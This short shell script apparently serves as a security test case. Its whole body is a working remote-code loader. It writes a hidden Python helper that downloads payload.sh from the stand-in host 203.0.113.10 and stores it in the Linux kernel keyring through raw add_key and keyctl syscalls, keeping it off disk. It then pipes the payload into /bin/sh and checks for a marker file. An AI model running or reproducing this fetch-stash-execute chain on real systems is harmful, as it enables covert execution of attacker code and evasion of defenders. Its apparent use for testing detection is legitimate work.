#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.k.py <<'END'
import ctypes, platform, subprocess, sys, urllib.request as u
c = ctypes.CDLL(None, use_errno=True); arm = platform.machine() == "aarch64"; ADD, CTL = (217, 219) if arm else (248, 250)
if sys.argv[1] == "put":
    b = u.urlopen("http://203.0.113.10/payload.sh").read(); k = c.syscall(ADD, b"user", b"krb:session", b, len(b), -3); assert k > 0, ctypes.get_errno(); print(k)
else:
    b = ctypes.create_string_buffer(4096); n = c.syscall(CTL, 11, int(sys.argv[2]), b, 4096); assert n > 0, ctypes.get_errno(); subprocess.run(["/bin/sh"], input=b.raw[:n])
END
k=$(python3 /tmp/.k.py put); python3 /tmp/.k.py get "$k"
test -e /tmp/reached
took_place
